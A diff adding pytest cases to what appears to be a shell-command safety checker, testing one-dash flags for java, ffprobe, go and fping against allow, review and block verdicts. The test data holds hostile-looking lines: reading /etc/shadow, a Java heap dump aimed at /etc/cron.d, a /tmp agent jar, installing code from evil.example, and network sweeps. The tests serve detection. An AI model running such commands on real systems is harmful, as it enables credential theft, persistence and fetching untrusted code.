@@ -202,6 +202,37 @@ def test_go_flags_take_one_dash_and_an_attached_value() -> None:
     assert "unknown-network-destination" in verdict("go install evil.example/tool@latest")[1]
 
 
+def test_programs_listed_as_one_dash_keep_their_entries() -> None:
+    listed = catalogue()
+    for name in ("ffprobe", "nmap", "go", "java", "gdb"):
+        program = listed.lookup(name)
+        assert program is not None, name
+        assert program.single_dash, name
+    ffmpeg = listed.lookup("ffmpeg")  # one-dash when catalogued; the list adds no program
+    assert ffmpeg is None or ffmpeg.single_dash
+    go = listed.lookup("go")  # a refinement keeps the subcommands of its entry
+    assert go is not None
+    assert go.subcommands
+
+
+@pytest.mark.parametrize(
+    ("line", "decision"),
+    [
+        ("java -Xmx2g -ea -cp build/classes Main", "allow"),
+        ("java -verbose:gc -jar build/app.jar", "allow"),
+        ("java -javaagent:/tmp/agent.jar -jar build/app.jar", "review"),
+        ("java -XX:HeapDumpPath=/etc/cron.d/x -jar build/app.jar", "block"),
+        ("ffprobe -v error -show_entries format=duration -of csv=p=0 media/in.mp4", "allow"),
+        ("ffprobe -hide_banner /etc/shadow", "block"),
+        ("fping -c 3 -t 500 github.com", "allow"),
+        ("fping -c 3 github.com evil.example", "review"),
+        ("fping -g 10.0.0.0/24", "review"),
+    ],
+)
+def test_one_dash_words_of_other_programs(line: str, decision: str) -> None:
+    assert verdict(line)[0].value == decision
+
+
 @pytest.mark.parametrize(
     ("line", "decision"),
     [
